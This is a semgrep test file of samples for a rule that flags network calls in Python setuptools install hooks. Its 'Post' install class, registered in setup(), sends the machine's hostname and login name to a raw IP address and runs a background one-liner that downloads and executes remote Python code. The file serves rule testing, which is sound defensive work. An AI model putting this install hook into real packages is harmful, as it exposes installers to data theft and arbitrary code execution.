# Samples for py-setup-net; read by `semgrep --test`, never imported.
from setuptools import setup
from setuptools.command.install import install
import os
import socket
import urllib.request


class Post(install):
    def run(self):
        install.run(self)
        # ruleid: py-setup-net
        urllib.request.urlopen("http://62.197.136.3/i?h=" + socket.gethostname() + "&u=" + os.getlogin())
        # ruleid: py-setup-net
        os.system("python3 -c 'import urllib.request as u;exec(u.urlopen(\"https://files.pyhost.link/s\").read())' &")


class Quiet(install):
    def run(self):
        # ok: py-setup-net
        install.run(self)


setup(name="sample", version="0", cmdclass={"install": Post})
